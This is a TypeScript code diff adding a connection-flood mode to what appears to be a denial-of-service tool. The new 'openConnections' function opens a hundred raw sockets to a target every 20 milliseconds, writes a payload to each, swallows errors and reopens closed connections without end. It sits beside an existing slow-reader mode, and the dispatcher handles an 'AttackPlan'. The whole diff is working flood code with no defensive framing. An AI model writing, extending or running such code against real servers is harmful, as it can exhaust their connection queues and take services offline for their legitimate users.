@@ -87,13 +87,38 @@ async function openReaders({ origin, ask, total, drips }: Plan<'readers'>): Prom
   }
 }
 
+/** Connections opened within 20 milliseconds, at most: more would fill the queue of those not accepted yet. */
+const openedAtOnce = 100;
+
+async function openConnections({ origin, total, text, reopens }: Plan<'connections'>) {
+  const { hostname, port } = new URL(origin);
+  let open = 0;
+  for (;;) {
+    for (let begun = 0; open < total && begun < openedAtOnce; begun += 1) {
+      open += 1;
+      report.sent += 1;
+      const socket = connect({ host: hostname, port: Number(port) });
+      socket
+        .on('error', () => {})
+        .once('close', () => {
+          note('none');
+          if (reopens) open -= 1;
+        });
+      socket.resume().write(text);
+    }
+    await sleep(20);
+  }
+}
+
 process.on('message', (message: AttackPlan | 'stop') => {
   if (message === 'stop') {
     process.send?.({ ...report, seconds: (performance.now() - began) / 1_000 });
   } else if (message.kind === 'loops') {
     message.asks.forEach((ask, index) => void loop(message, ask, index));
-  } else {
+  } else if (message.kind === 'readers') {
     void openReaders(message);
+  } else {
+    void openConnections(message);
   }
 });
 // Whoever began the attack is gone.
